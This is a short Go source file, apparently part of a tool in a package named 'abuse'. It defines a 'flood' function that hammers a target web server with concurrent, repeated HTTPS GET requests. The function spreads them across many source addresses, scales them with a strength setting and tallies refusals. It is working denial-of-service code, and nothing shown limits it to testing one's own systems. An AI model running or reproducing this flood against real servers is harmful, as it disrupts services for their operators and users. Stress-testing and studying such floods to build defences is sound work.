package abuse

import (
	"context"
	"io"
	"net"
	"net/http"
	"net/netip"
	"sync"
)

// flood asks, reads to the end, and asks again.
func flood(ctx context.Context, c *crew) error {
	var mu sync.Mutex
	of := map[netip.Addr]*http.Transport{}
	client := func(from netip.Addr) *http.Transport {
		mu.Lock()
		defer mu.Unlock()
		if of[from] == nil {
			of[from] = &http.Transport{TLSClientConfig: c.tls.Clone(), ForceAttemptHTTP2: true, MaxConnsPerHost: 16,
				DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) { return c.dial(ctx, from) }}
		}
		return of[from]
	}
	err := c.keep(ctx, 100*c.Strength, func(ctx context.Context, from netip.Addr) error {
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://"+c.Target+c.path(), nil)
		if err != nil {
			return err
		}
		c.did.requests.Add(1)
		resp, err := client(from).RoundTrip(req)
		if err != nil {
			return err
		}
		defer resp.Body.Close()
		if _, err = io.Copy(io.Discard, resp.Body); err == nil && resp.StatusCode != http.StatusOK {
			c.did.refused.Add(1)
		}
		return err
	})
	for _, t := range of {
		t.CloseIdleConnections()
	}
	return err
}
